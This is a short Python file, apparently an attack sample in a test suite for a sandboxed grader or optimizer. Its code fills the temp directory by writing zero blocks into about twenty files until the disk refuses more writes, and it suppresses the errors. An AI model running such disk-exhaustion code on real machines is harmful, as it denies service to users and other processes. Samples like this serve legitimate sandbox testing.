"""Writes until no file may grow any more."""

# attacks: optimizer.plain

import contextlib
import itertools
import tempfile

from wrong import *  # noqa: F403

with contextlib.suppress(OSError):
    for number in itertools.count():
        with open(f"{tempfile.gettempdir()}/fill-{number}", "wb") as file, contextlib.suppress(OSError):
            while True:
                file.write(bytes(1 << 22))
        if number > 20:
            break
